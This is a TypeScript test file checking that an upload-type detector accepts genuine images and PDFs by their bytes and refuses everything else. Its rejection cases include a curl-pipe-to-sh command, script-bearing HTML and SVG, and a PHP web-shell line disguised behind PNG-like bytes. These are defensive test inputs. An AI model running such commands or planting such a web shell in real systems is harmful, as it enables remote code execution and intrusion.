// The type of an upload is read from its bytes: real images and PDFs are recognised whatever they are
// called, and anything else (a script, an SVG, an archive) is refused even when named like an image.
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { detectUploadType } from "./detect.server";

const canvas = () => sharp({ create: { width: 32, height: 24, channels: 3, background: "#2a6" } });

describe("detectUploadType", () => {
  it.each([
    ["jpeg", () => canvas().jpeg().toBuffer(), "image/jpeg"],
    ["png", () => canvas().png().toBuffer(), "image/png"],
    ["webp", () => canvas().webp().toBuffer(), "image/webp"],
    ["gif", () => canvas().gif().toBuffer(), "image/gif"],
    ["avif", () => canvas().avif().toBuffer(), "image/avif"],
  ])("recognises a %s image from its content", async (_name, make, mimeType) => {
    expect(await detectUploadType(await make())).toEqual({ kind: "image", mimeType });
  });

  it("recognises a PDF document", async () => {
    const document = await PDFDocument.create();
    document.addPage();
    expect(await detectUploadType(await document.save())).toEqual({ kind: "pdf", mimeType: "application/pdf" });
  });

  it.each([
    ["a shell script", "#!/bin/sh\ncurl https://example.org/x | sh\n"],
    ["an HTML page", "<!doctype html><script>alert(1)</script>"],
    ["an SVG drawing (it can carry scripts)", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ["plain text", "just some words"],
    ["nothing at all", ""],
  ])("refuses %s", async (_name, content) => {
    expect(await detectUploadType(new TextEncoder().encode(content))).toBeUndefined();
  });

  it("refuses other binary formats, such as a ZIP archive", async () => {
    const zip = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00, ...new Array(40).fill(0)]);
    expect(await detectUploadType(zip)).toBeUndefined();
  });

  it("refuses a script whose first bytes merely start like a PNG's name", async () => {
    expect(await detectUploadType(new TextEncoder().encode("PNG\n<?php system($_GET['c']); ?>"))).toBeUndefined();
  });
});
